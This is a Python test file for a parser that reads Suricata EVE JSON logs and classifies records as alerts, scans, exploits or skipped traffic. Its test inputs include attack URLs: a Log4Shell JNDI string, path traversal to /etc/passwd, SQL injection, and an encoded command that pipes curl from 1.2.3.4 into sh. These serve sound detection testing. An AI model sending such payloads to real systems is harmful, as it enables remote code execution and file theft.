"""Suricata EVE JSON: fields per record kind, time zones, classification, skip and reject
reasons, the array variant, and sniffing against other formats."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.evidence.conformance import CTX, assert_accounted, parse_lines, records_of
from wuzhen.evidence.parsers._base import LINE, RECORD, ParseContext, ParseResult
from wuzhen.evidence.parsers.suricata import SuricataEve, SuricataEveArray

SAMPLES = Path(__file__).resolve().parents[2] / "data" / "evidence"
EVE = SAMPLES / "suricata-eve" / "eve.json"
ARRAY = SAMPLES / "suricata-eve-array" / "alerts.json"
LINES = SuricataEve()
ARRAYS = SuricataEveArray()


@pytest.fixture(scope="module")
def sample() -> ParseResult:
    lines = EVE.read_text(encoding="utf-8").splitlines()
    records, result = parse_lines(LINES, lines)
    assert_accounted(records, result)
    return result


def _event(result: ParseResult, record: int) -> dict[str, Any]:
    rows = result.events.filter(pl.col(RECORD) == record).to_dicts()
    assert len(rows) == 1, f"record {record} is not one event"
    row = rows[0]
    row["extra"] = json.loads(row["extra"]) if row["extra"] is not None else None
    return row


def _skip_reason(result: ParseResult, record: int) -> str:
    reasons = result.skipped.filter(pl.col(RECORD) == record)["reason"].to_list()
    assert len(reasons) == 1, f"record {record} is not skipped once"
    return str(reasons[0])


def _reject_reason(result: ParseResult, record: int) -> str:
    reasons = result.rejects.filter(pl.col(RECORD) == record)["reason"].to_list()
    assert len(reasons) == 1, f"record {record} is not rejected once"
    return str(reasons[0])


def _utc(year: int, month: int, day: int, hour: int, minute: int, second: int, us: int) -> datetime:
    return datetime(year, month, day, hour, minute, second, us, tzinfo=UTC)


def test_sample_counts(sample: ParseResult) -> None:
    assert (sample.events.height, sample.skipped.height, sample.rejects.height) == (17, 14, 4)


def test_alert_fields(sample: ParseResult) -> None:
    ev = _event(sample, 1)
    assert ev["time.source"] == _utc(2024, 5, 14, 8, 12, 1, 412300)
    assert (ev["source.ip"], ev["source.port"]) == ("203.0.113.45", 51522)
    assert (ev["destination.ip"], ev["destination.port"]) == ("192.168.10.20", 80)
    assert (ev["protocol.transport"], ev["protocol.application"]) == ("tcp", "http")
    assert ev["classification.type"] == "ids-alert"
    assert ev["classification.identifier"] == "suricata:1:2013504"
    assert ev["event_description.text"].startswith("ET POLICY GNU/Linux APT User-Agent")
    assert ev["extra"] == {
        "category": "Not Suspicious Traffic",
        "severity": 3,
        "action": "allowed",
        "rev": 6,
        "flow_id": 1418234716285771,
        "app_proto": "http",
        "http_method": "GET",
        "http_status": 200,
    }
    # The HTTP host and path of an alert stay out of the shared fields (extra included).
    assert ev["destination.fqdn"] is None
    assert ev["destination.urlpath"] is None
    assert "archive.example.org" not in json.dumps(ev["extra"])


def test_blocked_alert_is_evidence_with_offset_converted(sample: ParseResult) -> None:
    ev = _event(sample, 2)
    assert ev["extra"]["action"] == "blocked"
    assert ev["classification.identifier"] == "suricata:1:2001219"
    assert ev["time.source"] == _utc(2024, 5, 14, 8, 15, 22, 871)  # +0200
    assert ev["protocol.application"] is None


def test_alert_source_and_target_override_the_packet_direction(sample: ParseResult) -> None:
    ev = _event(sample, 3)
    assert (ev["source.ip"], ev["source.port"]) == ("198.51.100.9", 33012)
    assert (ev["destination.ip"], ev["destination.port"]) == ("192.168.10.20", 80)
    assert ev["time.source"] == _utc(2024, 5, 14, 13, 2, 44, 918210)  # -0400


def test_timestamp_without_offset_is_read_in_the_ingest_zone() -> None:
    line = EVE.read_text(encoding="utf-8").splitlines()[3]
    records = records_of([line])
    utc = LINES.parse(records, None, CTX)
    assert _event(utc, 1)["time.source"] == _utc(2014, 10, 3, 12, 30, 0, 101010)
    denver = ParseContext(now=CTX.now, timezone="America/Denver")
    shifted = LINES.parse(records, None, denver)
    assert _event(shifted, 1)["time.source"] == _utc(2014, 10, 3, 18, 30, 0, 101010)
    assert _event(utc, 1)["protocol.transport"] == "udp"


def _alert_at(timestamp: str) -> str:
    line = EVE.read_text(encoding="utf-8").splitlines()[0]
    return json.dumps({**json.loads(line), "timestamp": timestamp})


# Tester's report (explore/sensors-a): a ``Z`` zone was rejected as unreadable.
@pytest.mark.parametrize(
    ("timestamp", "expected"),
    [
        ("2024-06-01T12:00:00.000Z", _utc(2024, 6, 1, 12, 0, 0, 0)),
        ("2024-06-01T12:00:00.123456Z", _utc(2024, 6, 1, 12, 0, 0, 123456)),
        ("2024-06-01T12:00:00Z", _utc(2024, 6, 1, 12, 0, 0, 0)),
        ("2024-06-01T14:00:00.5+0200", _utc(2024, 6, 1, 12, 0, 0, 500000)),
    ],
)
def test_timestamp_in_utc_with_z(timestamp: str, expected: datetime) -> None:
    denver = ParseContext(now=CTX.now, timezone="America/Denver")  # a Z is not local time
    result = LINES.parse(records_of([_alert_at(timestamp)]), None, denver)
    assert _event(result, 1)["time.source"] == expected


def test_time_in_a_daylight_saving_gap_is_rejected_with_its_reason() -> None:
    # 02:30 on 10 March 2024 never happened in Denver (clocks went from 02:00 to 03:00).
    lines = [_alert_at("2024-03-10T02:30:00.000000"), _alert_at("2024-03-10T99:00:00")]
    denver = ParseContext(now=CTX.now, timezone="America/Denver")
    result = LINES.parse(records_of(lines), None, denver)
    assert result.events.height == 0
    reason = "time does not exist in America/Denver (a daylight-saving gap)"
    assert _reject_reason(result, 1) == reason
    assert _reject_reason(result, 2) == "timestamp missing or unreadable"
    assert _event(LINES.parse(records_of(lines[:1]), None, CTX), 1)["time.source"] == _utc(
        2024, 3, 10, 2, 30, 0, 0
    )


ANOMALY = "protocol anomaly is not evidence by itself"


# Anomalies were events (``undetermined``) while Zeek's ``weird`` records, the same kind of
# thing, are skipped: one packet must be judged alike whichever sensor saw it, and Suricata
# does not say what an anomaly means (an applayer one in the response direction even names
# the owner's own server as ``src_ip``).
@pytest.mark.parametrize("record", [5, 6, 7])  # decode, applayer, no IP header (no src_ip)
def test_anomalies_are_skipped(sample: ParseResult, record: int) -> None:
    assert sample.events.filter(pl.col(RECORD) == record).height == 0
    assert _skip_reason(sample, record) == ANOMALY


@pytest.mark.parametrize(
    "anomaly",
    [
        {"type": "unknown", "code": 4711},
        {"type": "stream", "event": "stream.pkt_invalid_timestamp"},
        {"event": "x"},  # no type
        {},  # neither type nor event
    ],
)
@pytest.mark.parametrize("src_ip", ["203.0.113.7", None])
def test_every_anomaly_record_is_skipped(anomaly: dict[str, Any], src_ip: str | None) -> None:
    obj: dict[str, Any] = {
        "timestamp": "2024-05-14T11:00:05.223344+0000",
        "event_type": "anomaly",
        "dest_ip": "192.168.10.20",
        "proto": "TCP",
        "anomaly": anomaly,
    }
    if src_ip is not None:
        obj["src_ip"] = src_ip
    result = LINES.parse(records_of([json.dumps(obj)]), None, CTX)
    assert (result.events.height, result.rejects.height) == (0, 0)
    assert _skip_reason(result, 1) == ANOMALY


@pytest.mark.parametrize(
    ("record", "identifier", "type_"),
    [
        (8, "suricata-flow:tcp-no-reply", "scanner"),
        (9, "suricata-flow:tcp-refused", "scanner"),
        (10, "suricata-flow:tcp-half-open", "scanner"),
        (11, "suricata-flow:tcp-no-reply", "scanner"),  # no TCP flags: state new, no reply
        (12, "suricata-flow:dropped", "undetermined"),
    ],
)
def test_scanning_or_blocked_flows(
    sample: ParseResult, record: int, identifier: str, type_: str
) -> None:
    ev = _event(sample, record)
    assert (ev["classification.identifier"], ev["classification.type"]) == (identifier, type_)
    assert ev["protocol.transport"] == "tcp"
    assert ev["source.ip"].startswith("203.0.113.")


def test_flow_extra_and_ports(sample: ParseResult) -> None:
    ev = _event(sample, 10)
    assert (ev["source.port"], ev["destination.port"]) == (54323, 443)
    assert ev["extra"] == {
        "state": "closed",
        "reason": "timeout",
        "pkts_toserver": 2,
        "pkts_toclient": 1,
        "tcp_flags_ts": "06",
        "tcp_flags_tc": "12",
        "flow_id": 1003,
    }


def test_ordinary_flows_are_skipped(sample: ParseResult) -> None:
    assert _skip_reason(sample, 13) == (
        "flow of an alerted connection (its alerts are the evidence)"
    )
    assert _skip_reason(sample, 14) == "normal flow"  # completed handshake
    assert _skip_reason(sample, 15) == "normal flow"  # UDP


@pytest.mark.parametrize(
    ("record", "identifier", "type_"),
    [
        (17, "http:shellshock", "exploit"),
        (18, "http:log4shell", "exploit"),
        (19, "http:path-traversal", "exploit"),
        (20, "http:sql-injection", "exploit"),
        (21, "http:phpunit-rce", "exploit"),
        (22, "http:sensitive-file", "scanner"),
        (23, "http:scanner-ua", "scanner"),
    ],
)
def test_attack_requests(sample: ParseResult, record: int, identifier: str, type_: str) -> None:
    ev = _event(sample, record)
    assert (ev["classification.identifier"], ev["classification.type"]) == (identifier, type_)
    assert ev["protocol.application"] == "http"
    assert ev["destination.fqdn"] == "www.example.com"
    assert ev["destination.urlpath"].startswith("/")
    assert ev["event_description.text"]


def test_attack_request_fields(sample: ParseResult) -> None:
    ev = _event(sample, 19)
    assert ev["destination.urlpath"] == "/download.php?file=../../../../etc/passwd"
    assert (ev["source.ip"], ev["source.port"]) == ("203.0.113.52", 50604)
    assert ev["extra"] == {
        "http_method": "GET",
        "http_status": 404,
        "http_protocol": "HTTP/1.1",
        "user_agent": "Mozilla/5.0",
    }
    assert _skip_reason(sample, 16) == "normal HTTP request"


def _http_line(url: str, agent: str = "Mozilla/5.0") -> str:
    return json.dumps(
        {
            "timestamp": "2024-06-01T12:00:00.000001+0000",
            "event_type": "http",
            "src_ip": "45.95.147.236",
            "src_port": 40000,
            "dest_ip": "10.0.0.1",
            "dest_port": 80,
            "proto": "TCP",
            "http": {"hostname": "x", "url": url, "http_user_agent": agent, "status": 404},
        }
    )


# Tester's report (explore/sensors-a, cmp/eve.json): percent-encoded attacks were skipped as
# "normal HTTP request" though Zeek, decoding as weblog does, saw them. The URL is now
# decoded the same way (double escapes, overlong UTF-8, ``+``) before matching.
@pytest.mark.parametrize(
    ("url", "identifier"),
    [
        ("/?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D", "http:log4shell"),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/hosts", "http:path-traversal"),  # CVE-2021-41773
        ("/..%252f..%252f..%252fetc%252fhosts", "http:path-traversal"),
        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts", "http:path-traversal"),
        ("/?id=1+UNION+ALL+SELECT+1,2", "http:sql-injection"),
        ("/?id=1%27%20OR%20%271%27%3D%271", "http:sql-injection"),
        ("/cgi-bin/x?c=cd+/tmp;chmod+777+x", "http:command-injection"),
        ("/?cmd=%3Bcurl%20http%3A%2F%2F1.2.3.4%2Fx%7Csh", "http:command-injection"),
        ("/%2eenv", "http:sensitive-file"),
    ],
)
def test_percent_encoded_attack_requests(url: str, identifier: str) -> None:
    result = LINES.parse(records_of([_http_line(url)]), None, CTX)
    ev = _event(result, 1)
    assert (ev["classification.identifier"], ev["classification.type"]) == (
        identifier,
        "exploit" if identifier != "http:sensitive-file" else "scanner",
    )
    assert ev["destination.urlpath"] == url  # kept as logged, not decoded


@pytest.mark.parametrize(
    "url", ["/search?q=caf%C3%A9+au+lait", "/a%20b/c.html", "/file..txt", "/?q=50%25+off"]
)
def test_percent_encoded_normal_requests_stay_skipped(url: str) -> None:
    result = LINES.parse(records_of([_http_line(url)]), None, CTX)
    assert result.events.height == 0
    assert _skip_reason(result, 1) == "normal HTTP request"


def test_ssh(sample: ParseResult) -> None:
    assert _skip_reason(sample, 26) == "SSH session metadata"
    ev = _event(sample, 27)
    assert ev["classification.identifier"] == "suricata-ssh:scanner-client"
    assert ev["classification.type"] == "scanner"
    assert ev["protocol.application"] == "ssh"
    assert ev["extra"]["client_software"] == "ZGrab"


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        (24, "DNS query or answer"),
        (25, "TLS handshake"),
        (28, "sensor statistics"),
        (29, "fileinfo record is not evidence"),
        (30, "packet drop record (the blocking rule's alert is the evidence)"),
        (31, "netflow record is not evidence"),
    ],
)
def test_other_event_types_are_skipped(sample: ParseResult, record: int, reason: str) -> None:
    assert _skip_reason(sample, record) == reason


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        (32, "not JSON"),
        (33, "evidence record without src_ip"),
        (34, "timestamp missing or unreadable"),
        (35, "JSON value is not an object"),
    ],
)
def test_sample_rejects(sample: ParseResult, record: int, reason: str) -> None:
    assert _reject_reason(sample, record) == reason


@pytest.mark.parametrize(
    ("obj", "reason"),
    [
        ({"timestamp": "2024-05-14T11:00:00+0000", "src_ip": "192.0.2.1"}, "no event_type"),
        ({"timestamp": "2024-05-14T11:00:00+0000", "event_type": 5}, "event_type is not"),
        (
            {
                "timestamp": "2024-05-14T11:00:00+0000",
                "event_type": "alert",
                "src_ip": "192.0.2.1",
                "alert": {"gid": 1, "signature": "no sid"},
            },
            "alert without a numeric gid and signature_id",
        ),
        (
            {
                "timestamp": "2024-05-14T11:00:00+0000",
                "event_type": "alert",
                "src_ip": "192.0.2.1",
                "alert": {"gid": 1, "signature_id": "ET-1", "signature": "not a number"},
            },
            "alert without a numeric gid and signature_id",
        ),
    ],
)
def test_objects_that_are_not_readable_eve_are_rejected(obj: dict[str, Any], reason: str) -> None:
    result = LINES.parse(records_of([json.dumps(obj)]), None, CTX)
    assert result.events.height == 0
    assert _reject_reason(result, 1).startswith(reason)


@pytest.mark.parametrize(
    ("proto", "transport"),
    [
        ("TCP", "tcp"),
        ("UDP", "udp"),
        ("ICMP", "icmp"),
        ("IPv6-ICMP", "ipv6-icmp"),
        ("047", "other"),
    ],
)
def test_transport_names(proto: str, transport: str) -> None:
    line = json.dumps(
        {
            "timestamp": "2024-05-14T11:00:00.5+0000",
            "event_type": "alert",
            "src_ip": "192.0.2.1",
            "dest_ip": "192.0.2.2",
            "proto": proto,
            "alert": {"gid": 1, "signature_id": 1, "signature": "x"},
        }
    )
    ev = _event(LINES.parse(records_of([line]), None, CTX), 1)
    assert ev["protocol.transport"] == transport
    assert ev["source.port"] is None


# -- sniffing ---------------------------------------------------------------------------------

ZEEK_JSON = (
    '{"ts":1591367999.305988,"uid":"CMdzit1AMNsmfAIiQc","id.orig_h":"192.168.4.76",'
    '"id.orig_p":36844,"id.resp_h":"192.168.4.1","id.resp_p":53,"proto":"udp"}'
)
COWRIE = (
    '{"eventid":"cowrie.session.connect","src_ip":"198.51.100.3","src_port":51234,'
    '"timestamp":"2024-05-14T11:00:00.000000Z","session":"a1b2c3d4"}'
)
SYSLOG = "May 14 11:00:00 host sshd[123]: Invalid user admin from 198.51.100.3 port 50000"


def test_sniff_lines() -> None:
    lines = EVE.read_text(encoding="utf-8").splitlines()
    assert LINES.sniff(lines) >= 90
    assert ARRAYS.sniff(lines) == 0
    for other in (ZEEK_JSON, COWRIE, SYSLOG, "[1, 2]"):
        assert LINES.sniff([other]) == 0, other


def test_sniff_array() -> None:
    pretty = ARRAY.read_text(encoding="utf-8").splitlines()
    assert ARRAYS.sniff(pretty[:50]) == 95
    assert LINES.sniff(pretty[:50]) == 0
    compact = json.dumps(json.loads(ARRAY.read_text(encoding="utf-8")))
    assert ARRAYS.sniff([compact]) == 95
    # The first element cut by the sample's end: judged by its keys.
    assert ARRAYS.sniff(pretty[:6]) == 70
    for other in (f"[{ZEEK_JSON}]", f"[{COWRIE}]", "[1, 2]", "[]", ZEEK_JSON):
        assert ARRAYS.sniff([other]) == 0, other


# -- the array variant --------------------------------------------------------------------------


def test_array_and_lines_give_the_same_events() -> None:
    elements = json.loads(ARRAY.read_text(encoding="utf-8"))
    as_lines = [json.dumps(e) for e in elements]
    _, from_lines = parse_lines(LINES, as_lines)
    records, from_array = parse_lines(ARRAYS, ARRAY.read_text(encoding="utf-8").splitlines())
    assert_accounted(records, from_array)
    keys = [RECORD, "time.source", "source.ip", "destination.port", "classification.identifier"]
    assert (
        from_array.events.select(keys)
        .sort(RECORD)
        .equals(from_lines.events.select(keys).sort(RECORD))
    )
    assert from_array.events.height == 4  # the anomaly is skipped
    assert from_array.skipped.sort(RECORD).equals(from_lines.skipped.sort(RECORD))


def test_split_document_reserializes_each_element_compactly() -> None:
    doc = b'\xef\xbb\xbf[\n  {"event_type": "dns", "a": [1, 2]},\n  null,\n  5\n]\n'
    records = ARRAYS.split_document(doc)
    assert records.columns == [RECORD, LINE, "__bad"]
    assert records[RECORD].to_list() == [1, 2, 3]
    assert records[LINE].to_list() == ['{"event_type":"dns","a":[1,2]}', "null", "5"]
    assert records["__bad"].null_count() == 3
    result = ARRAYS.parse(records.drop("__bad"), None, CTX)
    assert _skip_reason(result, 1) == "DNS query or answer"
    assert _reject_reason(result, 2) == "JSON value is not an object"
    assert _reject_reason(result, 3) == "JSON value is not an object"


CUT = "JSON array cut off before its end (not complete JSON)"


# Tester's report (explore/sensors-a, suri/arr_trunc.json): an array cut off mid-document was
# called "not a JSON array".
@pytest.mark.parametrize(
    ("doc", "reason"),
    [
        (b'{"event_type": "alert"}', "document is not a JSON array"),
        (b"not json", "document is not a JSON array"),
        (b"\xff\xfe[1]", "document is not a JSON array"),
        (b'[{"event_type": "alert"}', CUT),
        (b'\xef\xbb\xbf\n [{"event_type": "alert"},\n{"event_ty', CUT),
        (b'[{"event_type": "alert"}, {"a": 1}\n', CUT),
        (b'[{"event_type": "alert"} {"a": 1}]\n', "JSON array that is not valid JSON"),
    ],
)
def test_unreadable_document_is_one_bad_record(doc: bytes, reason: str) -> None:
    records = ARRAYS.split_document(doc)
    assert records.height == 1
    assert records["__bad"].to_list() == [reason]
    assert records[LINE][0] == doc.decode("utf-8", errors="replace").lstrip("\ufeff")


def test_huge_bad_document_is_kept_cut() -> None:
    records = ARRAYS.split_document(b"[" + b"x" * (2 * 1024 * 1024))
    assert records["__bad"].to_list() == [f"{CUT} (kept cut to 1 MiB)"]
    assert records[LINE].str.len_chars()[0] == 1024 * 1024


def test_empty_array_has_no_records() -> None:
    assert ARRAYS.split_document(b" [ ] ").height == 0


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=10,
)


@settings(max_examples=60, deadline=None)
@given(elements=st.lists(json_values, max_size=12))
def test_any_json_array_splits_into_one_record_per_element(elements: list[Any]) -> None:
    records = ARRAYS.split_document(json.dumps(elements).encode())
    assert records.height == len(elements)
    assert [json.loads(v) for v in records[LINE].to_list()] == elements
    result = ARRAYS.parse(records.drop("__bad"), None, CTX)
    assert_accounted(records.drop("__bad"), result)


@settings(max_examples=60, deadline=None)
@given(data=st.binary(max_size=300))
def test_any_bytes_split_without_raising(data: bytes) -> None:
    records = ARRAYS.split_document(data)
    assert records.columns == [RECORD, LINE, "__bad"]
    good = records.filter(pl.col("__bad").is_null()).drop("__bad")
    assert_accounted(good, ARRAYS.parse(good, None, CTX))
